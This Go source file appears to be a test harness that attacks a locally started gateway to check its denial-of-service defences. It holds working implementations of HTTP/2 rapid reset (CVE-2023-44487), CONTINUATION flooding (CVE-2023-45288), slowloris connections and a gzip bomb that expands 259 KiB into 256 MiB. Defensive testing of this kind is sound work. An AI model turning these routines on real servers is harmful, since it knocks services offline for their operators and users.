//go:build unix

package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attack attacks a gateway until ctx ends or the attack is complete. Its error means
// that the gateway did not defend itself.
type attack func(ctx context.Context, c *child) error

// attacks are made with and without a credential.
func attacks() map[string]attack {
	return map[string]attack{
		"rapid reset":                     func(ctx context.Context, c *child) error { return rapidReset(ctx, c.Listen) },
		"rapid reset of the fast door":    func(ctx context.Context, c *child) error { return rapidReset(ctx, c.GRPCListen) },
		"CONTINUATION flood":              func(ctx context.Context, c *child) error { return continuationFlood(ctx, c.Listen) },
		"CONTINUATION flood of fast door": func(ctx context.Context, c *child) error { return continuationFlood(ctx, c.GRPCListen) },
		"slow headers": func(ctx context.Context, c *child) error {
			return slowloris(ctx, c.Listen, "POST /admingateway.admin.v1.UserService/ListUsers HTTP/1.1\r\nHost: h\r\nX-A: ")
		},
		"slow bodies without a credential": func(ctx context.Context, c *child) error {
			return slowloris(ctx, c.Listen, "POST /admingateway.admin.v1.UserService/ListUsers HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{")
		},
		"slow bodies with a credential": func(ctx context.Context, c *child) error {
			return slowloris(ctx, c.Listen, "POST /admingateway.admin.v1.UserService/ListUsers HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer "+c.other+"\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{")
		},
		"silent connections to the fast door": func(ctx context.Context, c *child) error { return slowloris(ctx, c.GRPCListen, "PRI * HT") },
		"prefaces to the one port":            func(ctx context.Context, c *child) error { return openAndWait(ctx, c.Listen, false) },
		"prefaces to the fast door":           func(ctx context.Context, c *child) error { return openAndWait(ctx, c.GRPCListen, false) },
		"watches at the one port":             func(ctx context.Context, c *child) error { return openAndWait(ctx, c.Listen, true) },
		"watches at the fast door":            func(ctx context.Context, c *child) error { return openAndWait(ctx, c.GRPCListen, true) },
		"gzip bomb over Connect": func(ctx context.Context, c *child) error {
			return bomb(ctx, c, c.Listen, "application/proto", "Content-Encoding")
		},
		"gzip bomb over gRPC": func(ctx context.Context, c *child) error {
			return bomb(ctx, c, c.Listen, "application/grpc+proto", "Grpc-Encoding")
		},
		"gzip bomb through the fast door": func(ctx context.Context, c *child) error {
			return bomb(ctx, c, c.GRPCListen, "application/grpc+proto", "Grpc-Encoding")
		},
	}
}

// dialRaw opens a connection that ends with ctx.
func dialRaw(ctx context.Context, address string) (net.Conn, error) {
	conn, err := (&net.Dialer{Timeout: patience}).DialContext(ctx, "tcp", address)
	if err != nil {
		return nil, err
	}
	context.AfterFunc(ctx, func() { _ = conn.Close() })
	return conn, conn.SetDeadline(time.Now().Add(2 * patience))
}

// rapidReset opens calls and resets them at once: CVE-2023-44487.
func rapidReset(ctx context.Context, address string) error {
	for ctx.Err() == nil {
		if err := resets(ctx, address); err != nil {
			return err
		}
	}
	return nil
}

// resets does so on one connection until the server closes it.
func resets(ctx context.Context, address string) error {
	conn, frames, err := dialHTTP2(ctx, address)
	if err != nil {
		return ignoreEnd(ctx, err)
	}
	defer func() { _ = conn.Close() }()
	block := headerBlock(":path", "/admingateway.admin.v1.UserService/ListUsers", "content-type", "application/grpc+proto", "te", "trailers")
	for id := uint32(1); id < 20_000; id += 2 {
		err := frames.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
		if err == nil {
			err = frames.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		if err != nil {
			return nil // The server closed the connection, as it should.
		}
	}
	return nil
}

// continuationFlood sends headers without an end: CVE-2023-45288.
func continuationFlood(ctx context.Context, address string) error {
	for ctx.Err() == nil {
		conn, frames, err := dialHTTP2(ctx, address)
		if err != nil {
			return ignoreEnd(ctx, err)
		}
		block := headerBlock(":path", "/", "x-a", strings.Repeat("a", 8<<10))
		err = frames.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block})
		more := headerBlock("x-b", strings.Repeat("b", 15<<10))
		for n := 0; err == nil && n < 2000; n++ { // 30 MB
			err = frames.WriteContinuation(1, false, more)
		}
		_ = conn.Close()
		if err == nil {
			return errors.New("30 MB of headers were taken")
		}
	}
	return nil
}

func dialHTTP2(ctx context.Context, address string) (net.Conn, *http2.Framer, error) {
	conn, err := dialRaw(ctx, address)
	if err != nil {
		return nil, nil, err
	}
	go func() { _, _ = io.Copy(io.Discard, conn) }() // It ends with the connection.
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, nil, errors.Join(err, conn.Close())
	}
	frames := http2.NewFramer(conn, nil)
	if err := frames.WriteSettings(); err != nil {
		return nil, nil, errors.Join(err, conn.Close())
	}
	return conn, frames, nil
}

// headerBlock is a request's header: names and values in turn.
func headerBlock(pairs ...string) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	encoder.SetMaxDynamicTableSize(0) // A block may be sent many times.
	pairs = append([]string{":method", "POST", ":scheme", "http", ":authority", "h"}, pairs...)
	for i := 0; i < len(pairs); i += 2 {
		_ = encoder.WriteField(hpack.HeaderField{Name: pairs[i], Value: pairs[i+1]}) // To a buffer.
	}
	return block.Bytes()
}

// slowloris opens many connections, and sends the beginning of a request and then
// single bytes on each.
func slowloris(ctx context.Context, address, begun string) error {
	var group sync.WaitGroup
	defer group.Wait()
	for range 200 {
		conn, err := dialRaw(ctx, address)
		if err != nil {
			return ignoreEnd(ctx, err)
		}
		group.Go(func() {
			defer func() { _ = conn.Close() }()
			ticker := time.NewTicker(100 * time.Millisecond)
			defer ticker.Stop()
			for text := begun; ; text = "a" {
				if _, err := io.WriteString(conn, text); err != nil {
					return
				}
				select {
				case <-ticker.C:
				case <-ctx.Done():
					return
				}
			}
		})
	}
	<-ctx.Done()
	return nil
}

// bomb sends 259 KiB that would be 256 MiB.
func bomb(ctx context.Context, c *child, address, contentType, header string) error {
	client := http2Client()
	defer client.CloseIdleConnections()
	body := squeezed()
	if strings.HasPrefix(contentType, "application/grpc") {
		body = append([]byte{1, byte(len(body) >> 24), byte(len(body) >> 16), byte(len(body) >> 8), byte(len(body))}, body...)
	}
	for ctx.Err() == nil {
		request, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+address+"/admingateway.admin.v1.UserService/ListUsers", bytes.NewReader(body))
		if err != nil {
			return err
		}
		request.Header.Set("Content-Type", contentType)
		request.Header.Set(header, "gzip")
		request.Header.Set("Te", "trailers")
		request.Header.Set("Authorization", "Bearer "+c.other)
		response, err := client.Do(request)
		if err != nil {
			return ignoreEnd(ctx, err)
		}
		answer, err := io.ReadAll(response.Body)
		_ = response.Body.Close()
		if err != nil {
			return ignoreEnd(ctx, err)
		}
		status := response.Header.Get("Grpc-Status") + response.Trailer.Get("Grpc-Status")
		if status != "8" && !strings.Contains(string(answer), "resource_exhausted") {
			return fmt.Errorf("a bomb was answered with %s, status %q: %.200s", response.Status, status, answer)
		}
	}
	return nil
}

// squeezed is 256 MiB of zeros as 259 KiB: a gzip stream whose second MiB, which
// looks back at the first, is there 255 times. Making it whole takes seconds with
// the race detector.
var squeezed = sync.OnceValue(func() []byte {
	const mebibytes = 256
	var out bytes.Buffer
	w, zeros, sum := gzip.NewWriter(&out), make([]byte, 1<<20), crc32.NewIEEE()
	more := func() int {
		_, _ = w.Write(zeros) // To a buffer.
		_ = w.Flush()
		return out.Len()
	}
	first, second := more(), more()
	_ = w.Close()
	end := out.Bytes()[second : out.Len()-8] // Without the sum and the size.
	whole := slices.Concat(out.Bytes()[:first], bytes.Repeat(out.Bytes()[first:second], mebibytes-1), end)
	for range mebibytes {
		_, _ = sum.Write(zeros)
	}
	return binary.LittleEndian.AppendUint32(binary.LittleEndian.AppendUint32(whole, sum.Sum32()), mebibytes<<20)
})

// ignoreEnd drops errors that come from the end of the attack, or from the gateway
// closing the connection.
func ignoreEnd(ctx context.Context, err error) error {
	if _, refused := errors.AsType[*net.OpError](err); ctx.Err() == nil && !refused && !errors.Is(err, io.EOF) {
		return err
	}
	return nil
}
